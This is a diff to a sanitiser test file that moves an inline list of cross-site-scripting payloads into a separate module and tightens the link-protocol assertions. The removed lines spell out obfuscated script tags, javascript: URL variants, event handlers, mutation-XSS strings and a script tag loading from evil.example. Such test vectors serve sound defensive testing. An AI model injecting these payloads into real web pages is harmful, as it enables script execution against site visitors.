@@ -1,84 +1,8 @@
 import sanitizeHtml from 'sanitize-html'
 import { describe, expect, test } from 'vitest'
 import { sanitise } from '@/lib/server/sanitise'
+import { SCRIPT_PAYLOADS } from '@/tests/support/script-payloads'
 
-const RUN = 'alert(1)'
-const TAGS = [
-  'script',
-  'iframe',
-  'object',
-  'embed',
-  'svg',
-  'math',
-  'style',
-  'link',
-  'meta',
-  'base',
-  'form',
-  'input',
-  'template',
-  'noscript',
-  'video',
-  'audio',
-  'img',
-  'marquee',
-  'xmp',
-  'textarea',
-  'title',
-  'frameset',
-  'portal',
-]
-const URLS = [
-  'javascript:',
-  'JaVaScRiPt:',
-  ' javascript:',
-  'java\nscript:',
-  'java\tscript:',
-  '&#106;avascript:',
-  '&#x6A;avascript:',
-  'javascript&colon;',
-  'vbscript:',
-  'data:text/html,',
-  'http:',
-  '\u0001javascript:',
-  'blob:',
-  'file:',
-]
-const HANDLERS = [
-  'onclick',
-  'onerror',
-  'onload',
-  'onmouseover',
-  'onfocus',
-  'ONCLICK',
-  'onpointerenter',
-  'onanimationstart',
-  'onbegin',
-  'ontoggle',
-]
-const ODD = [
-  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
-  `<<script>${RUN}//<</script>`,
-  `<script >${RUN}</script\n>`,
-  `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
-  `<p/onclick=${RUN}>x`,
-  `<p onclick\n=\n"${RUN}">x</p>`,
-  `<p style="background:url(javascript:${RUN})">x</p>`,
-  `<a href="https://a" onclick="${RUN}" style="x">y</a>`,
-  `<svg><a xlink:href="javascript:${RUN}"><text>x</text></a></svg>`,
-  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
-  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
-  `<!--><img src=x onerror=${RUN}>-->`,
-  `<![CDATA[<script>${RUN}</script>]]>`,
-  `<textarea><script>${RUN}</script></textarea>`,
-  `&lt;script&gt;${RUN}&lt;/script&gt;`,
-]
-const PAYLOADS = [
-  ...TAGS.map((tag) => `<${tag} src="x" onload="${RUN}" href="javascript:${RUN}">${RUN}</${tag}>`),
-  ...URLS.map((url) => `<a href="${url}${RUN}">x</a>`),
-  ...HANDLERS.map((name) => `<p ${name}="${RUN}">x</p>`),
-  ...ODD,
-]
 const SAFE = new Set('p br ul ol li strong b em i h3 h4 table thead tbody tr th td a span hr'.split(' '))
 
 /** Every tag with its attributes, as another parser reads them. */
@@ -94,9 +18,9 @@ function elementsOf(html: string): { name: string; attributes: Record<string, st
 }
 
 describe("a store's HTML", () => {
-  test(`${PAYLOADS.length} payloads leave neither script, handler nor scheme [SEC-8]`, () => {
-    expect(PAYLOADS.length).toBeGreaterThanOrEqual(50)
-    for (const payload of PAYLOADS) {
+  test(`${SCRIPT_PAYLOADS.length} payloads leave neither script, handler nor scheme [SEC-8]`, () => {
+    expect(SCRIPT_PAYLOADS.length).toBeGreaterThanOrEqual(150)
+    for (const payload of SCRIPT_PAYLOADS) {
       const html = sanitise(payload)
       for (const { name, attributes } of elementsOf(html)) {
         expect([payload, SAFE.has(name)]).toEqual([payload, true])
@@ -104,9 +28,10 @@ describe("a store's HTML", () => {
           payload,
           [],
         ])
-        if (attributes.href) expect(attributes.href).toMatch(/^(https:|tel:|mailto:|\/|#)/)
+        const leads = new URL(attributes.href ?? '', 'https://site.example').protocol
+        expect([payload, /^(https|tel|mailto):$/.test(leads)]).toEqual([payload, true])
       }
-      expect(html).not.toMatch(/<script|<img|<svg|<iframe|<style|javascript:[^<]*"/i)
+      expect(html).not.toMatch(/<script|<img|<svg|<iframe|<style/i)
     }
   })
 
